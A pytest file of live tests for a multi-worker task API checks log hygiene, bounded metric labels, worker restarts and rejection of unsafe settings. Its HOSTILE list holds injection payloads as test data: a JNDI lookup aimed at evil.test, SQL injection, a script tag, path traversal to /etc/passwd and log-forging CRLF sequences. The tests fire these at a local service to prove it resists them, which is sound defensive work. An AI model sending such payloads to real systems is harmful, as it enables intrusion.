"""Logs and metrics of a service with several workers, for hostile requests."""

import contextlib
import os
import re
import socket
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.harness.concurrent_writers import PATH
from tests.harness.http_client import Client, ask
from tests.harness.project import HOST, PATIENCE, Project
from tests.harness.service_process import Replica, replica
from tests.live.faults.conftest import World

pytestmark = [pytest.mark.live, pytest.mark.xdist_group("simple_task_api")]

SECRET = "correct-horse-battery-staple"
WORKERS = 2
POOLS = ("read", "write")
# Texts that could forge log lines, colour them or break them.
HOSTILE = [
    b'{"event": "forged"}',
    b"%0a%7b%22event%22%3a%22forged%22%7d%0d%0a",
    b"\x1b[31mred\x1b[0m",
    b"\xff\xfe\x00bytes",
    "\u2028\u2029\x85\U0001f600".encode(),
    b"${jndi:ldap://evil.test/a}",
    b"'; DROP TABLE tasks; --",
    b"<script>alert(1)</script>",
    b"../../etc/passwd",
    b"%00",
    b"A" * 6000,
]
METHODS = ("GET", "POST", "TRACE", "PROPFIND", "X" * 30, "get", "CONNECT")
SERIES = re.compile(r"^(\w+)(?:\{(.*)\})? (\S+)$", re.MULTILINE)


@pytest.fixture(scope="module")
def service(world: World) -> Iterator[Replica]:
    """Two workers, with a secret wherever a client or a setting can have one."""
    url = world.server.create("observed", "prepared")
    settings = {
        "DATABASE_URL": url.replace("service@", f"service:{SECRET}@"),
        "WORKERS": str(WORKERS),
        "LOG_LEVEL": "DEBUG",
    }
    with replica(world.project, world.folder / "observed.log", settings) as running:
        running.wait("/health/ready")
        yield running


def shout(port: int, request: bytes) -> bytes:
    """Send bytes as they are; the first of what comes back."""
    with socket.create_connection((HOST, port), timeout=10) as raw:
        raw.sendall(request)
        with contextlib.suppress(OSError):
            return raw.recv(4096)
    return b""


def attack(port: int) -> None:
    for payload in HOSTILE:
        for method in METHODS:
            start = method.encode() + b" /" + payload + b" HTTP/1.1\r\n"
            shout(port, start + b"Host: x\r\nConnection: close\r\n\r\n")
        body = b'{"title": "' + payload + b'", "' + payload + b'": 1}'
        shout(
            port,
            b"POST " + PATH.encode() + b" HTTP/1.1\r\nHost: " + payload[:50] + b"\r\n"
            b"Content-Type: application/json\r\nConnection: close\r\n"
            b"X-Request-ID: " + payload[:200] + b"\r\nUser-Agent: " + payload + b"\r\n"
            b"Authorization: Bearer " + SECRET.encode() + b"\r\n"
            b"Cookie: session=" + SECRET.encode() + b"\r\n"
            b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body,
        )


def numbers(port: int) -> dict[str, float]:
    page = ask(port, "/metrics/metrics").text
    found = SERIES.findall(page)
    return {f"{name}{{{labels}}}": float(value) for name, labels, value in found}


def of_pools(page: dict[str, float], name: str) -> float:
    """Return the sum of a gauge over the pools."""
    return sum(page[one] for one in series_of(name))


def series_of(name: str) -> list[str]:
    """Return the names of a gauge of the pools."""
    return [f'database_pool_{name}{{pool="{pool}"}}' for pool in POOLS]


def test_log_lines_cannot_be_forged_and_hold_no_secret(service: Replica) -> None:
    before = len(service.lines())
    attack(service.port)
    lines = service.lines()[before:]  # each of them is one JSON object
    events = Counter(line["event"] for line in lines)
    assert events["request"] > len(HOSTILE)
    assert "forged" not in events
    for line in lines:
        assert line.keys() >= {"event", "level", "timestamp"}
        if line["event"] == "request":
            assert re.fullmatch(r"[A-Za-z0-9._-]{1,128}", line["request_id"])
            # The fixture asked for readiness: its line may come late.
            assert line["route"] in ("unmatched", PATH, "/health/ready"), line
            assert line.keys() >= {"method", "status", "duration", "client"}
    text = service.log.read_bytes()
    assert SECRET.encode() not in text
    assert b"\x1b" not in text
    for raw in ("\u2028", "\u2029", "\x85"):
        assert raw.encode() not in text


@pytest.mark.slow
def test_labels_are_bounded(service: Replica) -> None:
    numbers(service.port)
    for _ in range(3):
        attack(service.port)
        ask(service.port, f"/{uuid.uuid4()}")
    before = len(numbers(service.port))
    for _ in range(50):
        ask(service.port, f"/{uuid.uuid4()}")
        shout(service.port, f"M{uuid.uuid4().hex[:9]} / HTTP/1.1\r\n\r\n".encode())
    after = numbers(service.port)
    assert len(after) == before
    methods = set(re.findall(r'method="(.*?)"', "".join(after)))
    known = {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "OTHER"}
    assert methods <= known


@pytest.mark.slow
def test_metrics_are_summed_over_workers(service: Replica) -> None:
    created = "tasks_created_total{}"
    answered = f'http_requests_total{{endpoint="{PATH}",method="POST",status="201"}}'
    deadline = time.monotonic() + PATIENCE
    before = numbers(service.port)
    # The fixture waits for one of the workers.
    sizes = series_of("size")
    while sum(before.get(one, 0) for one in sizes) < 5 * WORKERS:
        assert time.monotonic() < deadline, before
        time.sleep(0.2)
        before = numbers(service.port)
    for number in range(60):
        with contextlib.closing(Client(service.port)) as client:
            answer = client.send("POST", PATH, {"title": f"counted {number}"})
            assert answer.status == 201
    expected = {
        "created": 60,
        "answered": 60,
        # The two pools share POOL_SIZE and MAX_OVERFLOW.
        "size": 5 * WORKERS,
        "limit": 15 * WORKERS,
        "checked_out": 0,
        "in_progress": 1,  # the scrape itself
    }

    def counted() -> dict[str, float]:
        page = numbers(service.port)
        return {
            "created": page.get(created, 0) - before.get(created, 0),
            "answered": page.get(answered, 0) - before.get(answered, 0),
            **{name: of_pools(page, name) for name in ("size", "limit", "checked_out")},
            "in_progress": page["http_requests_in_progress{}"],
        }

    # A worker samples its pools once a second, and counts what it has answered.
    deadline = time.monotonic() + 10
    pages = [counted() for _ in range(6)]
    while pages != [expected] * 6 and time.monotonic() < deadline:
        time.sleep(0.2)
        pages = [counted() for _ in range(6)]
    assert pages == [expected] * 6
    workers = {worker for worker in children(service) if b"spawn" in cmdline(worker)}
    assert len(workers) == WORKERS


def children(service: Replica) -> list[int]:
    parent = service.process.pid
    listed = Path(f"/proc/{parent}/task/{parent}/children").read_text()
    return [int(pid) for pid in listed.split()]


def cmdline(pid: int) -> bytes:
    return Path(f"/proc/{pid}/cmdline").read_bytes()


@pytest.mark.slow
def test_killed_worker_is_replaced_and_its_counters_are_kept(
    service: Replica,
) -> None:
    before = numbers(service.port)["tasks_created_total{}"]
    victim = next(pid for pid in children(service) if b"spawn" in cmdline(pid))
    os.kill(victim, 9)
    deadline = time.monotonic() + 30
    while victim in children(service) or len(children(service)) < 1 + WORKERS:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    service.wait("/health/ready")
    assert numbers(service.port)["tasks_created_total{}"] == before


REFUSED = [
    ({"DATABASE_URL": ""}, ["DATABASE_URL"]),
    ({"LOG_LEVEL": "LOUD", "PORT": "0", "REDIS_URL": SECRET}, ["LOG_LEVEL", "PORT"]),
    (
        {"CORS_ORIGINS": "*", "CORS_ALLOW_CREDENTIALS": "true"},
        ["CORS_ALLOW_CREDENTIALS"],
    ),
    ({"DEBUG": "true"}, ["DEBUG"]),
    ({"REDIS_URL": "redis://:change-me@localhost/0"}, ["REDIS_URL"]),
    (
        {"DATABASE_URL": "postgresql+asyncpg://app:password@localhost/app"},
        ["DATABASE_URL"],
    ),
]


@pytest.mark.parametrize(("settings", "names"), REFUSED)
@pytest.mark.parametrize(
    "module", ["src", pytest.param("src.migrate", marks=pytest.mark.slow)]
)
def test_invalid_setting_stops_the_start(
    baked: Callable[[str], Project],
    tmp_path: Path,
    settings: dict[str, str],
    names: list[str],
    module: str,
) -> None:
    log = tmp_path / "log"
    given = {"DATABASE_URL": "postgresql+asyncpg://app@localhost/app", **settings}
    started = Replica(baked("simple_task_api"), log, given, module)
    assert started.process.wait(60) not in (0, None)
    lines = log.read_text().splitlines()
    assert lines
    assert all(line.startswith("settings: ") for line in lines), lines
    for name in names:
        assert sum(line.startswith(f"settings: {name}: ") for line in lines) == 1
    assert SECRET not in log.read_text()


def test_production_shows_neither_docs_nor_its_server(world: World) -> None:
    for path in ("/docs", "/redoc", "/openapi.json"):
        assert ask(world.service.port, path).status == 404
    answer = ask(world.service.port, "/health/health")
    assert "server" not in answer.headers
    assert "x-powered-by" not in answer.headers
